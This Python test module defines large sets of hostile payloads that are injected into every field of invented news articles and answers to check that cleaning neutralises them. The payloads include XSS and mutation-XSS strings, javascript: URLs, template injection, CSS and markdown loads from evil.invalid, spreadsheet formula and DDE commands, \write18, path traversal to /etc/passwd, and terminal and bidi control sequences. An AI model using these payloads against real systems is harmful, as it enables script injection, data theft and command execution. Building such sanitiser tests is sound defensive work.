"""Invented texts that try to be more than text, by what they attack, and articles that hold one of them in every field.

What a browser could run calls `hit()`, which the tests define and count; what it could load lies under `evil.invalid`.
"""

from __future__ import annotations

from collections.abc import Sequence

from assistant.answer import Answer, Citation, Claim, Doubt, Gloss, Question, Verdict
from corpus.article import Article
from corpus.story.clean import canonical, one_line
from index.passage import Hit, Passage
from tests.conftest import made_article

SCRIPTS = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT >",
    "<script src=//evil.invalid/a.js></script>",
    "<script\x0csrc='https://evil.invalid/b.js'>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "＜script＞hit()＜/script＞",
    "';hit();//",
    '";hit();//',
    "`;hit();//",
    "</script><script>hit()</script>",
)
HANDLERS = (
    "<img src=x onerror=hit()>",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror\n=hit()>",
    "<img src=x onerror=&#104;it()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()><summary>s",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>m</marquee>",
    "<div onpointerover=hit() style='position:fixed;inset:0'>o</div>",
    '" onmouseover=hit() x="',
    "' onmouseover='hit()' x='",
    '" autofocus onfocus=hit() "',
    "x' onclick=hit() '",
    "<a href=# onclick=hit()>click</a>",
    "<button formaction=javascript:hit()>b</button>",
    "<form action=https://evil.invalid/f><input name=q><button>send</button></form>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hit()</script>'></object>",
    "<embed src=https://evil.invalid/e.swf>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/r'>",
    "<link rel=stylesheet href=https://evil.invalid/s.css>",
    "<img srcset='https://evil.invalid/i.png 1x'>",
    "<input type=image src=https://evil.invalid/t.png>",
    "<table background=https://evil.invalid/b.png><td>t",
    "<a href='#start-1'>Ask</a>",
    "<a role=button href='#write' data-model='evil'>Let it write</a>",
)
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "javascript&colon;hit()",
    "javascript://evil.invalid/%0Ahit()",
    " &#14;javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "vbscript:hit()",
    "<a href=javascript:hit()>a</a>",
    "<a href='data:text/html,<script>hit()</script>'>a</a>",
    "<a href=' javascript:hit()'>a</a>",
    "<a href=vbscript:hit()>a</a>",
    "file:///etc/passwd",
    "//evil.invalid/x",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<style><style/><img src=x onerror=hit()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<template><img src=x onerror=hit()></template>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "<select><iframe></select><img src=x onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "</style><img src=x onerror=hit()>",
    "</textarea><img src=x onerror=hit()>",
    "</title><img src=x onerror=hit()>",
    "</noscript><img src=x onerror=hit()>",
    "</mark></p></blockquote></article></section></div></li></ul><img src=x onerror=hit()>",
    "</textarea></title></style></script></noscript></template></iframe></select>",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><?x hit() ?>",
    "<!DOCTYPE html [<!ENTITY e SYSTEM 'https://evil.invalid/e'>]>&e;",
    "<plaintext>",
    "<p title='`<img src=x onerror=hit()>`'>",
    "<svg><script>hit()</script></svg>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>t</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'/></svg>",
    "<svg><image href=https://evil.invalid/i.svg /></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.hit()></foreignObject></svg>",
    "<math href=javascript:hit()>m</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>m</maction></math>",
)
TEMPLATES = (
    "${hit()}",
    "${value}",
    "${`${hit()}`}",
    "$\\{hit()}",
    "{{hit()}}",
    "{{{hit()}}}",
    "{{#with (lookup this 'constructor')}}{{constructor 'hit()'}}{{/with}}",
    "{{constructor.constructor('hit()')()}}",
    "{% import os %}{{ 7*7 }}",
    "#{hit()} <%= hit() %> @{hit()} [[${hit()}]]",
    "{name} {0} {title.__class__.__mro__} {labels} %s %(name)s",
    "$& $` $' $1 $$",
    "{publisher}{outlet}{count}{}",
)
MARKDOWN = (
    "[a](javascript:hit())",
    "[a](<javascript:hit()>)",
    "[a](data:text/html,<script>hit()</script>)",
    "[a](vbscript:hit())",
    "[a](https://evil.invalid/l)",
    "![a](https://evil.invalid/p.png)",
    "![a](javascript:hit())",
    "![a][ref] [ref]: https://evil.invalid/q.png",
    '[ref]: javascript:hit() "t"',
    "[^1]: https://evil.invalid",
    "<https://evil.invalid/auto>",
    "<javascript:hit()>",
    "https://evil.invalid/bare www.evil.invalid mail@evil.invalid",
    "[a](https://evil.invalid \"t' onmouseover='hit()\")",
    '![" onerror="hit()](x)',
    "**b** __b__ *i* ~~s~~ ==m== ++u++ ^^s^^",
    "```html <img src=x onerror=hit()> ```",
    "~~~js hit()~~~",
    "``<script>hit()</script>``",
    "```mermaid graph TD; A[<img src=x onerror=hit()>] ```",
    "    <script>hit()</script>",
    "# h | a | b | --- | > q",
    "--- === *** ___ +++",
    "1. one - two + three :: four",
    ":::warning hit() :::",
    "- [ ] <b>task</b>",
    "[[evil.invalid]] {{< evil >}} :smile: @evil #evil",
    "$\\href{javascript:hit()}{x}$ $$\\url{javascript:hit()}$$",
    "\\(\\href{javascript:hit()}{x}\\) \\[\\htmlData{x=hit()}{y}\\]",
    "\\begin{align}\\includegraphics{https://evil.invalid/g.png}\\end{align}",
    "\\\\[a\\](javascript:hit()) \\<script>hit()\\</script>",
    "[1](#cite-0-1) [2]: #cite-0-2 [99]",
)
STYLES = (
    "<style>@import 'https://evil.invalid/i.css';</style>",
    "<style>*{background:url(https://evil.invalid/u.png)}</style>",
    "<p style=\"background:url('https://evil.invalid/w.png')\">w</p>",
    "<p style='width:expression(hit())'>e</p>",
    '<p style="behavior:url(#default#time2)">b</p>',
    "} body { background: url(https://evil.invalid/y.png) } {",
    "'; background: url(https://evil.invalid/z.png); '",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
    "<link rel=preload as=image href=https://evil.invalid/pre.png>",
    "@font-face{src:url(https://evil.invalid/f.woff)}",
    "/*</style>*/ <!-- -->",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?"&A1,"see")',
    '=WEBSERVICE("https://evil.invalid")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "'=1+1",
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    '{ INCLUDETEXT "https://evil.invalid/t.docx" }',
    '{ HYPERLINK "https://evil.invalid" }',
)
ENTRIES = (
    "}, title = {other}, note = {",
    "}} @article{evil, title={x}}",
    '@string{a = "b"} @preamble{"x"} @comment{y}',
    "\\input{/etc/passwd} \\write18{calc} \\def\\x{y}",
    "TY  - BOOK",
    "ER  - ",
    "AU  - Somebody Else",
    '","title":"other","x":"',
    '{"a": 1} [1, 2] null \\" \\n',
    'a","b;c\td',
    "--- title: other ---",
    "title: other",
)
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\Windows\\System32",
    "\\\\evil.invalid\\share",
    "CON",
    "nul.txt",
    "COM1.html",
    "aux",
    "~root",
    "-rf",
    ".hidden",
    'a/b\\c:d*e?f"g<h>i|j',
    "x" * 240,
    "\U00010330" * 90,
    "é" * 200,
    "name.html.exe",
    "trailing. . .",
)
# What cleaning takes out of every page, and what must not come through where nothing is cleaned.
CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGl0KCk=\x07",
    "\x1bPq#0\x1b\\",
    "\x1b[6n\x1b[c",
    "\x9b31mred",
    "\x9d52;c;aGl0\x9c",
    "\x90q\x9c",
    "over\rwrite",
    "back\x08\x08\x08space",
    "bell\x07 vertical\x0b form\x0c",
    "null\x00byte",
    "delete\x7f",
    "shift\x0eout\x0fin",
    "a\r\nSet-Cookie: a=b",
    "a\r\n\r\n<script>hit()</script>",
    "a\nContent-Disposition: inline",
    "\x85\u2028\u2029next",
    "\x1c\x1d\x1e\x1f",
)
DIRECTIONS = (
    "\u202etxt.exe",
    "\u202dforced\u202c",
    "\u202arun\u202bover",
    "\u2066isolated\u2069",
    "\u2067right\u2069 left",
    "\u2068never closed",
    "\u200emark\u200f \u061c",
    "gpj.\u202e\u2066 exe",
)
INVISIBLE = (
    "zero\u200bwidth\u200cnon\u200djoiner",
    "soft\u00adhyphen \u2060word \ufeffmark",
    "\U000e0048\U000e0049\U000e0054tags\U000e007f",
    "\ufff9between\ufffa\ufffb",
    "\ue000private \U000f0000",
    "va\ufe0friation \U000e0101",
    "invisible\u2062times\u2063",
)
HOMOGRAPHS = (
    "Kоmpаs.cоm",
    "раypal.com",
    "ＫＯＭＰＡＳ",
    "𝐊𝐨𝐦𝐩𝐚𝐬",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "שלום עולם 2021",
    "مرحبا 12/10/2021 بالعالم",
)
CLEAN = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *MUTATIONS,
    *TEMPLATES,
    *MARKDOWN,
    *STYLES,
    *FORMULAS,
    *ENTRIES,
    *NAMES,
    *HOMOGRAPHS,
)
UNCLEAN = (*CONTROLS, *DIRECTIONS, *INVISIBLE)
ALL = (*CLEAN, *UNCLEAN)
# What may reach no terminal: the control characters but tab and new line, and what turns the direction of writing.
FORBIDDEN = frozenset(
    chr(code)
    for code in (
        *range(0x20),
        *range(0x7F, 0xA0),
        0x61C,
        0x200E,
        0x200F,
        *range(0x202A, 0x202F),
        *range(0x2066, 0x206A),
        *range(0xE0000, 0xE0080),
    )
) - {"\t", "\n"}
TURNS = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


VERDICTS: tuple[Verdict, ...] = ("quoted", "supported", "weak", "unsupported", "unchecked")


def article(payload: str, number: int) -> Article:
    """An article as no page is read, with the payload as it is in every field."""
    text = (
        f"The mayor of Zorbia{number} said {payload} on Monday.\n\n{payload}\n\n{payload} is what the mayor of Zorbia{number} said again."
    )
    return Article(
        f"{number:016x}",
        payload,
        text,
        payload,
        payload,
        made_article("a", "b").published,
        (payload, f"Ann {payload}"),
        payload,
        payload,
        section=payload,
    )


def groups(payloads: Sequence[str], together: int) -> list[str]:
    """The payloads, so many in one text."""
    return ["  ".join(payloads[start : start + together]) for start in range(0, len(payloads), together)]


def answer(number: int, payload: str) -> Answer:
    """An answer that holds the payload wherever one can hold words; by its number quoted, written, or with nothing found."""
    hostile = article(payload, number)
    text = hostile.text
    citations = [Citation(1, hostile, 0, text.index("\n\n")), Citation(2, hostile, text.rindex("\n\n") + 2, len(text))]
    question = Question(payload, f"{payload} again", ("en", "id")[number % 2], publishers=(payload,), phrases=(payload,))
    quoted = [Claim(one.quote, (one,), "quoted", (8, len(one.quote)), (Gloss(5, payload),), payload) for one in citations]
    doubts = (Doubt("name", payload), Doubt("number", payload))
    written = [Claim(payload, tuple(citations), VERDICTS[number // 3 % len(VERDICTS)], doubts=doubts)]
    claims = (quoted, written, [])[number % 3]
    hit = Hit(Passage(hostile, 0, len(text)), 1.0, 1, 1)
    writer = payload if number % 3 == 1 else ""
    return Answer(question, tuple(claims), (hit,), bool(claims), True, payload, (payload,), 0.5, writer, payload, 1.0)


def in_a_collection(number: int, payload: str) -> Article:
    """The article of a payload as an export may hold it: hostile and clean."""
    line, hostile = one_line(payload), article(payload, number)
    url = f"https://news.invalid/{number}"
    return Article(hostile.id, line, canonical(hostile.text), url, line, hostile.published, (line,), "en", line, section=line)
